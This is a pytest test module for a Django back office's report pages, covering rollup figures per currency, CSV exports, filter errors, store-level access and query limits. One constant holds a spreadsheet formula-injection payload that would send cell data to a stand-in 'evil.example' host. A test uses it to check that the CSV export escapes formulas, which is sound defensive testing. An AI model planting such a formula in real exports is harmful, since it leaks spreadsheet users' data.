"""The report pages of the back office: figures from the rollup rows, CSV downloads, bad
filters, who sees what, and a bounded number of queries per page."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from html.parser import HTMLParser
from typing import Any

import pytest
from django.contrib.auth.models import Group, Permission
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from inventory.models import StaffMember
from tests.factories import UserFactory
from tests.reports import rollup_rows as rr

pytestmark = pytest.mark.django_db

SLUGS = ["sales", "sell-through", "returns", "customers", "margin", "fulfilment", "stock"]
VOID = {"area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "wbr"}
HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


class _TableReader(HTMLParser):
    """The cells of ``#report-table`` as ``[{data-key: text}]``, and the ids of the elements."""

    def __init__(self) -> None:
        super().__init__()
        self.rows: list[dict[str, str]] = []
        self.ids: dict[str, str] = {}
        self._in_table = False
        self._key: str | None = None
        self._id_stack: list[str | None] = []
        self._texts: dict[str, list[str]] = {}

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        if tag in VOID:
            return
        element_id = attributes.get("id")
        if element_id:
            self._texts[element_id] = []
        self._id_stack.append(element_id)
        if tag == "table" and element_id == "report-table":
            self._in_table = True
        elif self._in_table and tag == "tr":
            self.rows.append({})
        elif self._in_table and tag == "td" and attributes.get("data-key"):
            self._key = attributes["data-key"]
            self.rows[-1][self._key] = ""

    def handle_endtag(self, tag: str) -> None:
        if tag in VOID:
            return
        if tag == "table":
            self._in_table = False
        if tag == "td":
            self._key = None
        if self._id_stack:
            element_id = self._id_stack.pop()
            if element_id:
                self.ids[element_id] = " ".join("".join(self._texts[element_id]).split())

    def handle_data(self, data: str) -> None:
        if self._key is not None:
            self.rows[-1][self._key] += data.strip()
        for element_id in self._texts:
            if element_id in self.ids:
                continue
            if element_id in [i for i in self._id_stack if i]:
                self._texts[element_id].append(data)


def read_page(response: Any) -> _TableReader:
    reader = _TableReader()
    reader.feed(response.content.decode())
    reader.rows = [row for row in reader.rows if row]
    return reader


def read_csv(response: Any) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def world() -> dict[str, Any]:
    """Two channels in two currencies, two stores, two products and the rollup rows of a day."""
    day = timezone.localdate() - timedelta(days=2)
    web = rr.channel("webshop", currency="EUR")
    uk = rr.channel("uk-web", currency="GBP")
    north, south = rr.location("st-north"), rr.location("st-south")
    tee, hostile = rr.variant("Organic tee"), rr.variant(HOSTILE)
    rr.sales(
        day, web, north, tee, units_sold=3, gross="60.00", discount="6.00", tax="9.37",
        revenue="44.63", cost="21.00", units_costed=3, units_returned=1, refunded="10.00",
    )  # fmt: skip
    rr.sales(day, web, south, hostile, units_sold=1, gross="20.00", tax="3.47", revenue="16.53")
    rr.sales(day, uk, north, tee, currency="GBP", units_sold=2, gross="30.00", revenue="25.00")
    rr.orders(day, web, north, orders=2, units=3, subtotal="60.00", discount="6.00", total="54")
    rr.orders(day, web, south, orders=1, units=1, subtotal="20.00", total="20.00")
    rr.orders(day, uk, north, currency="GBP", orders=1, units=2, subtotal="30.00", total="30")
    rr.reason(day, web, tee, HOSTILE, 1)
    rr.stock(tee, north, on_hand=7)
    rr.snapshot(day, tee, north, on_hand=7, received=10, last_received_on=day)
    rr.timing(web, north, placed_at=rr.at(day), ready_after=timedelta(minutes=30))
    return {"day": day, "web": web, "uk": uk, "north": north, "south": south, "tee": tee}


def _reports_user(*, role: str | None = None, direct: bool = False, **fields: Any) -> Any:
    user = UserFactory(**fields)
    permission = Permission.objects.get(content_type__app_label="reports", codename="view_reports")
    if role is not None:
        group, _ = Group.objects.get_or_create(name=role)
        group.permissions.add(permission)
        user.groups.add(group)
    if direct:
        user.user_permissions.add(permission)
    return user


@pytest.fixture
def analyst_client() -> Client:
    client = Client()
    client.force_login(_reports_user(role="Analyst"))
    return client


def _url(slug: str, **params: str) -> str:
    query = "&".join(f"{key}={value}" for key, value in params.items())
    return reverse(f"reports:{slug}") + (f"?{query}" if query else "")


def test_the_index_links_every_report(analyst_client: Client, world: dict[str, Any]) -> None:
    response = analyst_client.get(reverse("reports:index"))
    assert response.status_code == 200
    page = read_page(response)
    for slug in SLUGS:
        assert f'href="{reverse(f"reports:{slug}")}"' in response.content.decode()
    assert "report-link-sales" in page.ids


@pytest.mark.parametrize("slug", SLUGS)
def test_every_page_answers_with_its_table_chart_and_csv_link(
    analyst_client: Client,
    world: dict[str, Any],
    slug: str,
    django_assert_max_num_queries: Any,
) -> None:
    # session, user, permissions (x2), channels, locations, categories, the figures
    with django_assert_max_num_queries(20):
        response = analyst_client.get(_url(slug))
    assert response.status_code == 200
    html = response.content.decode()
    assert 'id="report-table"' in html
    assert "format=csv" in html
    assert read_page(response).rows, f"{slug}: no rows"
    assert "OmniHub back office" in html  # the admin's look


def test_the_sales_page_shows_the_rollup_figures_per_currency(
    analyst_client: Client, world: dict[str, Any]
) -> None:
    response = analyst_client.get(_url("sales"))
    assert response.status_code == 200
    rows = {(row["channel"], row["store"]): row for row in read_page(response).rows}
    assert set(rows) == {("webshop", "st-north"), ("webshop", "st-south"), ("uk-web", "st-north")}
    north = rows[("webshop", "st-north")]
    assert north["period"] == world["day"].isoformat()
    assert north["gross"] == "60.00 EUR"
    assert north["discount"] == "6.00 EUR"
    assert north["tax"] == "9.37 EUR"
    assert north["refunded"] == "10.00 EUR"
    assert north["net"] == "44.00 EUR"  # 60 - 6 - 10
    assert north["orders"] == "2"
    assert north["aov"] == "22.00 EUR"
    assert rows[("uk-web", "st-north")]["gross"] == "30.00 GBP"
    # euros and pounds are never added together
    assert "90.00" not in response.content.decode()
    assert "110.00" not in response.content.decode()


def test_the_sales_chart_is_given_the_net_sales_per_channel_and_currency(
    analyst_client: Client, world: dict[str, Any]
) -> None:
    response = analyst_client.get(_url("sales", group_by="week"))
    chart = response.context["chart"]
    html = response.content.decode()
    assert 'data-chart="line"' in html and 'data-source="report-chart-sales"' in html
    assert '<script id="report-chart-sales" type="application/json">' in html
    series = {item["label"]: item["data"] for item in chart["datasets"]}
    assert sum(series["webshop (EUR)"]) == pytest.approx(44.00 + 20.00)
    assert sum(series["uk-web (GBP)"]) == pytest.approx(30.00)


def test_a_channel_and_store_filter_narrow_the_table(
    analyst_client: Client, world: dict[str, Any]
) -> None:
    response = analyst_client.get(_url("sales", channel="webshop", store="st-south"))
    rows = read_page(response).rows
    assert [(row["channel"], row["store"], row["gross"]) for row in rows] == [
        ("webshop", "st-south", "20.00 EUR")
    ]
    # the multiple select sends the parameter once per choice
    response = analyst_client.get(_url("sales") + "?channel=webshop&channel=uk-web")
    assert len(read_page(response).rows) == 3


def test_the_csv_download_has_every_row_and_escapes_formulas(
    analyst_client: Client, world: dict[str, Any]
) -> None:
    response = analyst_client.get(_url("sales", format="csv"))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="omnihub-sales-')
    lines = read_csv(response)
    header = lines[0]
    assert header[:4] == ["Period", "Channel", "Store", "Currency"]
    by_place = {(line[1], line[2]): dict(zip(header, line, strict=True)) for line in lines[1:]}
    assert by_place[("webshop", "st-north")]["Net sales"] == "44.00"
    assert by_place[("webshop", "st-north")]["Currency"] == "EUR"
    assert by_place[("uk-web", "st-north")]["Gross sales"] == "30.00"

    products = read_csv(analyst_client.get(_url("sell-through", format="csv", by="product")))
    names = [line[1] for line in products[1:]]
    assert "'" + HOSTILE in names and HOSTILE not in names
    reasons = read_csv(analyst_client.get(_url("returns", format="csv", by="reason")))
    assert reasons[1][0] == "'" + HOSTILE


@pytest.mark.parametrize(
    ("params", "field", "message"),
    [
        ({"start": "2026-03-10", "end": "2026-03-01"}, "end", "The end date is before"),
        ({"start": "2020-01-01", "end": "2026-01-01"}, "start", "The range is over 3 years"),
        ({"channel": "nope"}, "channel", "Unknown channel 'nope'"),
        ({"store": "nowhere"}, "store", "Unknown store 'nowhere'"),
        ({"start": "2026-13-01"}, "start", "is not a date"),
        ({"group_by": "year"}, "group_by", "Cannot group by 'year'"),
    ],
)
def test_a_bad_filter_is_a_400_with_the_message_next_to_the_field(
    analyst_client: Client, world: dict[str, Any], params: dict[str, str], field: str, message: str
) -> None:
    response = analyst_client.get(_url("sales", **params))
    assert response.status_code == 400
    page = read_page(response)
    assert message in page.ids[f"error-{field}"]
    assert "report-table" not in page.ids
    assert 'id="report-filters"' in response.content.decode()
    # no CSV either
    assert analyst_client.get(_url("sales", format="csv", **params)).status_code == 400


def test_a_bad_breakdown_is_a_400(analyst_client: Client, world: dict[str, Any]) -> None:
    response = analyst_client.get(_url("returns", by="colour"))
    assert response.status_code == 400
    assert "Unknown grouping 'colour'" in read_page(response).ids["error-by"]


def test_a_store_manager_sees_only_their_stores(world: dict[str, Any]) -> None:
    manager = _reports_user(role="Store manager")
    StaffMember.objects.create(user=manager, location=world["north"])
    client = Client()
    client.force_login(manager)

    rows = read_page(client.get(_url("sales"))).rows
    assert {row["store"] for row in rows} == {"st-north"}
    csv_lines = read_csv(client.get(_url("sales", format="csv")))
    assert {line[2] for line in csv_lines[1:]} == {"st-north"}
    # another store is refused like an unknown one, and not offered in the form
    response = client.get(_url("sales", store="st-south"))
    assert response.status_code == 400
    assert "Unknown store 'st-south'" in read_page(response).ids["error-store"]
    assert "st-south" not in str(response.context["form"]["store"])


def test_a_store_manager_with_another_reports_role_sees_everything(world: dict[str, Any]) -> None:
    manager = _reports_user(role="Store manager")
    manager.groups.add(Group.objects.get(name="Store manager"))
    group, _ = Group.objects.get_or_create(name="Analyst")
    group.permissions.add(
        Permission.objects.get(content_type__app_label="reports", codename="view_reports")
    )
    manager.groups.add(group)
    StaffMember.objects.create(user=manager, location=world["north"])
    client = Client()
    client.force_login(manager)
    rows = read_page(client.get(_url("sales"))).rows
    assert {row["store"] for row in rows} == {"st-north", "st-south"}


def test_staff_without_the_permission_get_a_403_and_others_the_login(
    world: dict[str, Any],
) -> None:
    client = Client()
    client.force_login(UserFactory())
    assert client.get(_url("sales")).status_code == 403
    assert client.get(reverse("reports:index")).status_code == 403

    customer = Client()
    customer.force_login(UserFactory(is_staff=False))
    response = customer.get(_url("sales"))
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))
    assert Client().get(_url("sales", format="csv")).status_code == 302


def test_a_superuser_sees_every_page(world: dict[str, Any]) -> None:
    client = Client()
    client.force_login(UserFactory(is_superuser=True))
    for slug in SLUGS:
        assert client.get(_url(slug)).status_code == 200, slug


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_the_sales_page_draws_its_chart_from_the_rollups(
    live_server: Any, page: Any, world: dict[str, Any]
) -> None:
    from tests.browser import save_screenshot

    user = _reports_user(role="Analyst", username="ana", password="a-long-demo-password")
    assert user.pk
    page.goto(f"{live_server.url}{_url('sales', group_by='week')}")
    page.fill("#id_username", "ana")
    page.fill("#id_password", "a-long-demo-password")
    page.click("input[type=submit]")
    page.wait_for_selector("#report-table")
    page.wait_for_function("() => window.Chart && Chart.getChart(document.querySelector('canvas'))")
    drawn = page.evaluate(
        """() => Chart.getChart(document.querySelector('canvas[data-chart]')).data.datasets
            .map(set => [set.label, set.data.reduce((a, b) => a + (b || 0), 0)])"""
    )
    assert sorted(drawn) == [["uk-web (GBP)", 30.0], ["webshop (EUR)", 64.0]]
    save_screenshot(page, "report-sales")
    page.goto(f"{live_server.url}{_url('sales', start='2026-03-10', end='2026-03-01')}")
    assert "The end date is before the start date." in page.inner_text("#error-end")
    save_screenshot(page, "report-sales-bad-filter")
